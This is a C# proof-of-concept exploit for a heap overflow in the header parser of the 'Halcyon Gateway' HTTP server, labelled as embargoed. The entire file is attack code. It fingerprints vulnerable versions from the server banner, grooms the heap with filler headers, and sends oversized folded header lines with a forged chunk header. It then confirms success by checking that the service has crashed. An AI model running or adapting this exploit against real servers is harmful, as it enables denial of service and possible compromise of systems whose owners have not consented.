using System;
using System.Collections.Generic;
using System.IO;
using System.Net.Sockets;
using System.Text;
using System.Threading;

namespace Halcyon.Poc;

// Proof of concept: heap overflow in the Halcyon Gateway HTTP header parser (embargoed).
public static class HeaderOverflow
{
    private const int DefaultPort = 8080;
    private const int HeaderBuffer = 4096;
    private const int ChunkSize = 512;
    private const uint MagicCookie = 0x48414C43;

    public static int Run(string host, int port, int overflow)
    {
        // Check the banner first so we only send the crafted request to a vulnerable build
        var banner = ReadBanner(host, port);
        if (!IsVulnerable(banner))
        {
            Console.Error.WriteLine("target does not look vulnerable: " + banner);
            return 1;
        }
        var request = BuildRequest(host, overflow);
        Console.Error.WriteLine("request is " + request.Length + " bytes");
        using var client = new TcpClient();
        client.Connect(host, port == 0 ? DefaultPort : port);
        var stream = client.GetStream();
        var offset = 0;
        while (offset < request.Length)
        {
            var count = Math.Min(ChunkSize, request.Length - offset);
            stream.Write(request, offset, count);
            offset += count;
        }
        client.Close();
        // Wait for the worker to die; a refused connection means the overflow worked
        return WaitForCrash(host, port, 10) ? 0 : 2;
    }

    public static string ReadBanner(string host, int port)
    {
        using var client = new TcpClient(host, port);
        var stream = client.GetStream();
        var probe = Encoding.ASCII.GetBytes("HEAD / HTTP/1.1\r\nHost: x\r\n\r\n");
        stream.Write(probe, 0, probe.Length);
        var buffer = new byte[2048];
        var read = stream.Read(buffer, 0, buffer.Length);
        var reply = Encoding.Latin1.GetString(buffer, 0, read);
        foreach (var line in reply.Split("\r\n"))
        {
            if (line.StartsWith("Server:", StringComparison.OrdinalIgnoreCase))
                return line.Substring(7).Trim();
        }
        return "";
    }

    public static bool IsVulnerable(string banner)
    {
        // Versions before 2.14.3 are affected; later builds check the folded length
        if (!banner.StartsWith("Halcyon/", StringComparison.Ordinal)) return false;
        var parts = banner.Substring(8).Split('.');
        var numbers = new List<int>();
        foreach (var part in parts)
        {
            if (int.TryParse(part, out var value)) numbers.Add(value);
        }
        while (numbers.Count < 3) numbers.Add(0);
        var major = numbers[0];
        var minor = numbers[1];
        return major < 2 || (major == 2 && (minor < 14 || (minor == 14 && numbers[2] < 3)));
    }

    public static byte[] BuildSpray(int pieces)
    {
        // Build a large header of filler so the allocator places our chunk next to the victim
        var output = new MemoryStream();
        for (var index = 0; index < pieces; index++)
        {
            var header = Encoding.ASCII.GetBytes("X-Fill-" + index + ": ");
            output.Write(header, 0, header.Length);
            var filler = new string('A', ChunkSize - 16);
            var fill = Encoding.ASCII.GetBytes(filler + "\r\n");
            output.Write(fill, 0, fill.Length);
        }
        return output.ToArray();
    }

    public static byte[] BuildTrailer(int overflow)
    {
        // The fake chunk header: size field, then the cookie the parser checks
        var trailer = new MemoryStream();
        trailer.Write(BitConverter.GetBytes(0x21), 0, 4);
        trailer.Write(BitConverter.GetBytes(MagicCookie), 0, 4);
        var padding = new byte[Math.Max(0, overflow - 8)];
        Array.Fill(padding, (byte)66);
        trailer.Write(padding, 0, padding.Length);
        return trailer.ToArray();
    }

    public static byte[] BuildRequest(string host, int overflow)
    {
        // Each continuation line starts with a tab; the parser forgets their length
        var builder = new MemoryStream();
        var head = Encoding.ASCII.GetBytes("GET /status HTTP/1.1\r\nHost: " + host + "\r\n");
        builder.Write(head, 0, head.Length);
        var spray = BuildSpray(16);
        builder.Write(spray, 0, spray.Length);
        var start = Encoding.ASCII.GetBytes("X-Folded: start\r\n");
        builder.Write(start, 0, start.Length);
        var remaining = HeaderBuffer + overflow;
        while (remaining > 0)
        {
            var width = Math.Min(remaining, 0x3F);
            var text = "\t" + new string('C', width) + "\r\n";
            var chunk = Encoding.ASCII.GetBytes(text);
            builder.Write(chunk, 0, chunk.Length);
            remaining -= 64;
        }
        var tail = BuildTrailer(overflow);
        builder.WriteByte(9);
        builder.Write(tail, 0, tail.Length);
        var end = Encoding.ASCII.GetBytes("\r\n\r\n");
        builder.Write(end, 0, end.Length);
        return builder.ToArray();
    }

    public static bool WaitForCrash(string host, int port, int seconds)
    {
        var deadline = DateTime.UtcNow.AddSeconds(seconds);
        while (DateTime.UtcNow < deadline)
        {
            try
            {
                using var probe = new TcpClient(host, port);
            }
            catch (SocketException)
            {
                return true;
            }
            Thread.Sleep(250);
        }
        return false;
    }

    public static string Describe(byte[] request) =>
        Encoding.ASCII.GetString(request, 0, Math.Min(request.Length, 0x40)) + "...";

    public static string Label() => "halcyon-poc/1.0";

    public static string LogPath() => "poc.log";
}
